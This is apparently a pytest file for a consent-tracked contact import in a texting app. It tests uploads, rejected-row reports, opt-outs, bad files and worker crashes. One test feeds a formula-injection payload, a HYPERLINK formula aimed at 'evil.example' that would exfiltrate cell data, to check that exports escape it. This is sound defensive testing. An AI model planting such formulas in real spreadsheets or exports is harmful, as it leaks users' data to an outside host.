"""Importing a file on screens, from the upload to the report; bad files; a worker killed midway."""

import asyncio
import csv
import re
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import aiohttp
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from tests.factories.office import Answer, Office, Staff
from textbank import across, jobs
from textbank.consent import run_import
from textbank.consent.run_import import run_imports
from textbank.consent.seal import seal
from textbank.consent.verify import verify
from textbank.database import Database

HEAD = "VANID,First Name,Last Name,Cell,Zip,Precinct\n"
ROWS = "1,Ann,Lee,(415) 555-0101,94110,P1\n2,Bo,Díaz,415-555-0102,,P2\n3,Cy,Poe,12,,P2\n4,Di,Ott,,,\n"
BASIS = {
    "kind": "told_us",
    "source": "May 1 fair",
    "agreed_on": "May 2026",
    "words": "Text me",
    "stated": "true",
}


async def upload(staff: Staff, content: bytes | str, name: str = "people.csv") -> Answer:
    if not isinstance(content, bytes):
        content = content.encode()
    form = aiohttp.FormData()
    form.add_field("file", content, filename=name, content_type="text/csv")
    return await staff.post("/people/import", form)


async def prepared(office: Office, content: bytes | str = HEAD + ROWS, **basis: object) -> str:
    """The path of an import that is ready to start."""
    staff = await office.signed_in("organizer")
    answer = await upload(staff, content)
    assert answer.status == 303, re.sub(r"\s+", " ", answer.text)
    path = answer.location.removesuffix("/columns")
    page = await staff.get(f"{path}/columns")
    chosen = dict(
        re.findall(
            r'<select id="f-(\w+)"(?:(?!</select>).)*?<option value="(\w+)" selected', page.text, re.DOTALL
        )
    )
    assert (await staff.post(f"{path}/columns", **chosen)).location == f"{path}/basis"
    assert (await staff.post(f"{path}/basis", **(basis or BASIS))).location == f"{path}/list"
    assert (await staff.post(f"{path}/list", list_id=office.town.list_id)).location == path
    await work_off(office)
    return path


async def work_off(office: Office) -> None:
    await run_imports(office.town.database, office.town.organization_id)


async def imported(office: Office, content: bytes | str = HEAD + ROWS, **basis: object) -> str:
    path = await prepared(office, content, **basis)
    staff = await office.signed_in("organizer")
    assert (await staff.post(f"{path}/start")).status == 303
    await work_off(office)
    return path


async def test_a_file_goes_through_every_step_to_a_report_and_a_ledger_that_names_who(office: Office) -> None:
    path = await prepared(office)
    staff = await office.signed_in("organizer")
    page = await staff.get(path)
    assert "Ready to import" in page.text
    assert "Import 2 rows" in page.text
    assert await office.town.query("select 1 from contact") == []
    await staff.post(f"{path}/start")
    assert "Importing" in (await staff.get(path)).text
    assert (await staff.get(f"{path}/progress")).status == 200
    await work_off(office)
    assert (await staff.get(f"{path}/progress")).status == 303
    page = await staff.get(path)
    assert "Rows that were not taken" in page.text
    assert "has 2 digits" in page.text
    rows = await office.town.query(
        "select c.first_name, c.last_name, c.external_id, c.fields, s.state, p.payload from contact c "
        "join subscription s on s.contact_id = c.id join consent_payload p on p.event_id = s.basis_event_id "
        "order by c.id"
    )
    assert [(row.first_name, row.last_name, row.external_id) for row in rows] == [
        ("Ann", "Lee", "1"),
        ("Bo", "Díaz", "2"),
    ]
    assert {row.state for row in rows} == {"subscribed"}
    assert rows[0].fields == {"Precinct": "P1"}
    said = rows[0].payload
    assert (said["by_name"], said["file"], said["line"]) == ("Organizer Rivera", "people.csv", 2)
    assert (said["source"], said["words_shown"]) == ("May 1 fair", "Text me")
    assert await office.town.query("select 1 from import_chunk") == []
    assert "people.csv" in (await staff.get("/people/imports")).text


async def test_a_file_that_waits_is_rung_for_at_once_and_by_the_schedule(office: Office) -> None:
    path = await prepared(office)
    town = office.town
    assert await across.with_waiting_imports(town.database) == []
    await (await office.signed_in("organizer")).post(f"{path}/start")
    assert town.rung[-1] == jobs.Job(jobs.IMPORT, town.organization_id)
    assert await across.with_waiting_imports(town.database) == [town.organization_id]
    await work_off(office)
    assert await across.with_waiting_imports(town.database) == []


async def test_the_file_of_rows_not_taken_runs_no_formula_and_is_read_again_as_it_was(office: Office) -> None:
    """It is made to be opened in a spreadsheet program, and its words come from strangers."""
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    quoted = formula.replace('"', '""')
    path = await imported(office, HEAD + f'1,"{quoted}",@Lee,12,94110,-1+1\n')
    report = await (await office.signed_in("organizer")).get(f"{path}/not-taken.csv")
    [row] = csv.reader(report.text.splitlines()[1:])
    assert row[1:6] == [f"'{formula}", "'@Lee", "12", "94110", "'-1+1"]
    await imported(office, report.text.replace(",12,", ",415-555-0199,"))
    assert await office.town.query("select first_name, last_name, fields from contact") == [
        (formula, "@Lee", {"Precinct": "-1+1"})
    ]


async def test_the_rows_not_taken_come_as_a_file_that_can_be_imported_again(office: Office) -> None:
    path = await imported(office)
    staff = await office.signed_in("organizer")
    report = await staff.get(f"{path}/not-taken.csv")
    assert report.headers["Content-Disposition"].endswith('"people.csv.not-taken.csv"')
    lines = report.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("VANID,First Name")
    assert lines[1].startswith("3,Cy,Poe,12,,P2,4,\"the number '12' has 2 digits")
    assert lines[2].startswith("4,Di,Ott,,,,5,has no phone number")
    assert (await (await office.stranger()).get(f"{path}/not-taken.csv")).status == 404
    again = await imported(office, report.text.replace(",12,", ",415-555-0199,"))
    page = await staff.get(again)
    assert "1 new" in page.text


async def test_whoever_opted_out_stays_out_and_a_repeat_doubles_nobody(office: Office) -> None:
    await imported(office)
    await office.town.text("+14155550101", "STOP")
    path = await imported(office)
    assert await office.town.query("select count(*) from contact") == [(2,)]
    states = await office.town.query(
        "select r.e164, s.state from subscription s join recipient r on r.id = s.recipient_id order by 1"
    )
    assert states == [("+14155550101", "unsubscribed"), ("+14155550102", "subscribed")]
    assert "they stay out" in (await (await office.signed_in("organizer")).get(path)).text


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("list.csv", b"", "list.csv is empty"),
        ("list.csv", b"PK\x03\x04" + bytes(500), "workbook"),
        ("list.csv", b"%PDF-1.7\n\x00\x01\x02\x80\xff" + bytes(range(256)) * 4, "not a table of text"),
        ("list.csv", b'"phone,name\n' * 60, "quotation mark"),
    ],
)
async def test_a_bad_file_gets_a_plain_message_and_leaves_nothing(
    office: Office, name: str, content: bytes, said: str
) -> None:
    answer = await upload(await office.signed_in("organizer"), content, name)
    assert answer.status == 422
    assert said in answer.text
    for table in ("contact_import", "import_chunk", "contact"):
        assert await office.town.query(f"select 1 from {table}") == []  # noqa: S608


async def test_no_file_at_all_is_asked_for(office: Office) -> None:
    answer = await (await office.signed_in("organizer")).post("/people/import", file="")
    assert answer.status == 422
    assert "Choose a file first" in answer.text


async def test_a_file_without_a_phone_column_keeps_what_was_chosen_and_asks_for_it(office: Office) -> None:
    staff = await office.signed_in("organizer")
    path = (await upload(staff, "Who,Where,Ring\nAnn,94110,415-555-0101\n")).location
    answer = await staff.post(path, first_name="0", zip_code="1")
    assert answer.status == 422
    assert "Choose the column with the phone numbers" in answer.text
    assert '<option value="0" selected>Who' in answer.text
    assert (await staff.post(path, first_name="0", phone="0")).status == 422
    assert (await staff.post(path, first_name="0", zip_code="1", phone="2")).status == 303


async def test_the_basis_question_must_be_answered_and_keeps_what_was_typed(office: Office) -> None:
    staff = await office.signed_in("organizer")
    path = (await upload(staff, HEAD + ROWS)).location.replace("columns", "basis")
    for form in ({}, {"kind": "told_us", "source": "The fair"}, {**BASIS, "stated": ""}, {"kind": "pigeon"}):
        answer = await staff.post(path, **form)
        assert answer.status == 422, form
    answer = await staff.post(path, kind="told_us", source="The fair")
    assert 'value="The fair"' in answer.text
    assert await office.town.query("select basis from contact_import") == [({},)]


async def test_a_new_list_is_made_in_passing_and_a_taken_name_is_said(office: Office) -> None:
    staff = await office.signed_in("organizer")
    path = (await upload(staff, HEAD + ROWS)).location.removesuffix("/columns")
    await staff.post(f"{path}/basis", **BASIS)
    # It is asked for only where a new list is chosen, and there it is needed.
    assert '<label for="f-name">Name of the new list</label>' in (await staff.get(f"{path}/list")).text
    answer = await staff.post(f"{path}/list", list_id="new", name="Rent Alerts")
    assert answer.status == 409
    assert "Rent Alerts" in answer.text
    assert (await staff.post(f"{path}/list", list_id="new", name="Night shift")).status == 303
    assert await office.town.query(
        "select name, state from contact_import i join contact_list l on l.id = i.list_id"
    ) == [("Night shift", "checking")]


async def test_a_file_over_the_limit_is_refused_before_it_is_read(office: Office) -> None:
    staff = await office.signed_in("organizer")
    await staff.get("/people/import")
    answer = await staff.request("POST", "/people/import", data=b"x", headers={"Content-Length": "1"})
    assert answer.status in (403, 422)
    texter = await office.signed_in("texter")
    assert (await upload(texter, HEAD)).status == 403


MANY = HEAD + "".join(f"{i},P{i},X,+1510{2_000_000 + i},94110,\n" for i in range(40))


class Killed(BaseException):
    """As good as kill -9: nothing of ours runs any more."""


@pytest.fixture
def deadly(monkeypatch: pytest.MonkeyPatch) -> Callable[[str, int], None]:
    """Kill whoever takes rows in the batch after so many: before, within or after its transaction."""
    write, commit = run_import._write, Database.idempotent
    batches = 0

    async def fragile_write(session: AsyncSession, *rest: object) -> bool:
        nonlocal batches
        batches += 1
        if batches > deadly_at and moment == "before":
            raise Killed
        done = await write(session, *rest)  # type: ignore[arg-type]
        if batches > deadly_at and moment == "within":
            raise Killed
        return done

    async def fragile_commit(self: Database, organization_id: int, work: Any) -> object:
        done = await commit(self, organization_id, work)
        if batches > deadly_at and moment == "after":
            raise Killed
        return done

    moment, deadly_at = "never", 0

    def arm(when: str, after: int) -> None:
        nonlocal moment, deadly_at, batches
        moment, deadly_at, batches = when, after, 0

    monkeypatch.setattr(run_import, "BATCH", 10)
    monkeypatch.setattr(run_import, "_write", fragile_write)
    monkeypatch.setattr(Database, "idempotent", fragile_commit)
    return arm


@pytest.mark.parametrize("when", ["before", "within", "after"])
async def test_a_worker_killed_at_every_border_of_a_batch_loses_and_doubles_nothing(
    office: Office, deadly: Callable[[str, int], None], when: str
) -> None:
    path = await prepared(office, MANY)
    await (await office.signed_in("organizer")).post(f"{path}/start")
    town = office.town
    for after in (0, 1, 0):
        deadly(when, after)
        with pytest.raises(Killed):
            await work_off(office)
        # Nobody lays a dead worker's import down: its lease runs out.
        await town.execute("update contact_import set worked_on_until = now() - interval '1 second'")
    deadly("never", 0)
    await work_off(office)
    assert await town.query("select state, rows, counts ->> 'added' from contact_import") == [
        ("done", 40, "40")
    ]
    for table in ("contact", "recipient", "subscription", "consent_event"):
        assert await town.query(f"select count(*) from {table}") == [(40,)], table  # noqa: S608
    async with town.database.transaction(town.organization_id) as session:
        while await seal(session, town.organization_id):
            pass
        assert (await verify(session, town.organization_id)).holds


async def test_two_workers_at_one_file_take_every_row_once(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:

    monkeypatch.setattr(run_import, "BATCH", 5)
    monkeypatch.setattr(run_import, "LEASE", timedelta(seconds=-1))
    path = await prepared(office, MANY)
    await (await office.signed_in("organizer")).post(f"{path}/start")
    await asyncio.gather(*(work_off(office) for _ in range(3)))
    await work_off(office)
    assert await office.town.query("select state, rows, counts ->> 'added' from contact_import") == [
        ("done", 40, "40")
    ]
    assert await office.town.query("select count(*) from consent_event") == [(40,)]


async def test_an_import_gets_on_though_reading_up_to_where_it_was_takes_all_the_time_there_is(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_import, "BATCH", 10)
    path = await prepared(office, MANY)
    await (await office.signed_in("organizer")).post(f"{path}/start")
    states = []
    for _ in range(50):
        await run_imports(office.town.database, office.town.organization_id, seconds=0.0)
        states += await office.town.query("select state, rows from contact_import")
        if states[-1][0] == "done":
            break
    assert states[-1] == ("done", 40)
    assert states[0][1] > 0


async def test_an_import_is_stopped_and_goes_on_where_it_was(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_import, "BATCH", 10)
    path = await prepared(office, MANY)
    staff = await office.signed_in("organizer")
    await staff.post(f"{path}/start")
    stops = iter([False, False, False, True])
    await run_imports(office.town.database, office.town.organization_id, stopping=lambda: next(stops, True))
    assert (await staff.post(f"{path}/stop")).status == 303
    await work_off(office)
    [(state, rows)] = await office.town.query("select state, rows from contact_import")
    assert state == "stopped"
    assert 0 < rows < 40
    assert "Go on with the import" in (await staff.get(path)).text
    await staff.post(f"{path}/start")
    await work_off(office)
    assert await office.town.query("select count(*) from contact") == [(40,)]
